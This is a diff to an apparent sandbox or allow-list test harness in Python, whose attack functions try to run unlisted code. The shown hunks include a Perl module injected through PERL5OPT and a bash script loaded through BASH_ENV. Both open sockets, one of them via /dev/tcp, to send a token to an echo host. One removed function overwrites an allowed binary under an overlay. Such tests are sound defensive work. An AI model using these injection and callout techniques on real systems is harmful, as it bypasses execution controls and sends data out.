@@ -21,7 +21,9 @@ LIBC = ctypes.CDLL(None, use_errno=True)
 def run(words, env=None, token=b"", **more):
     """What became of a program: its exit, the signal that ended it, or the error of execve."""
     environment = dict(os.environ) | {name: value for name, value in (env or {}).items() if value is not None}
-    done = subprocess.run([str(word) for word in words], env=environment, capture_output=True, text=True, timeout=15, stdin=subprocess.DEVNULL, **more)
+    done = subprocess.run(
+        [str(word) for word in words], env=environment, capture_output=True, text=True, timeout=15, stdin=subprocess.DEVNULL, **more
+    )
     if done.returncode < 0:
         return f"SIG{signal.Signals(-done.returncode).name[3:]}"
     return f"ended with {done.returncode}: {(done.stdout + done.stderr)[:200]}"
@@ -134,16 +136,6 @@ def _(facts, token):
 @attack("race-path")
 def _(facts, token):
     return run([facts["attack"], "race-path", "/bin/true", facts["unlisted"], *request(facts, token)])
-
-
-@attack("overlay-copy-up")
-def _(facts, token):
-    """The allowed binary below an overlay, written to: the overlay shows the copy in its place."""
-    if not facts["overlaid"]:
-        return "no overlay"
-    with open(facts["overlaid"], "r+b") as file:  # noqa: PTH123
-        file.write(pathlib.Path(facts["unlisted"]).read_bytes())
-    return run([facts["overlaid"], *request(facts, token)])
 
 
 # files without a name
@@ -323,7 +315,7 @@ def _(facts, token):
     module = pathlib.Path(f"Evil{facts['phase']}.pm")
     module.write_text(
         f"package Evil{facts['phase']}; use IO::Socket::INET; my $s = IO::Socket::INET->new('{facts['echo']}:80'); "
-        f"print $s \"GET /{token.decode()} HTTP/1.0\\r\\nHost: {facts['echo']}\\r\\n\\r\\n\"; <$s>; 1;\n"
+        f'print $s "GET /{token.decode()} HTTP/1.0\\r\\nHost: {facts["echo"]}\\r\\n\\r\\n"; <$s>; 1;\n'
     )
     return run(["/usr/bin/perl", "-e", "0"], {"PERL5OPT": f"-I{pathlib.Path.cwd()} -MEvil{facts['phase']}"})
 
@@ -332,7 +324,8 @@ def _(facts, token):
 def _(facts, token):
     start = fresh(facts, "bash.sh")
     start.write_text(
-        f"exec 3<>/dev/tcp/{facts['echo']}/80; printf 'GET /{token.decode()} HTTP/1.0\\r\\nHost: {facts['echo']}\\r\\n\\r\\n' >&3; read -r _ <&3\n"
+        f"exec 3<>/dev/tcp/{facts['echo']}/80\n"
+        f"printf 'GET /{token.decode()} HTTP/1.0\\r\\nHost: {facts['echo']}\\r\\n\\r\\n' >&3\nread -r _ <&3\n"
     )
     return run(["/bin/bash", "-c", "true"], {"BASH_ENV": str(start)})
 
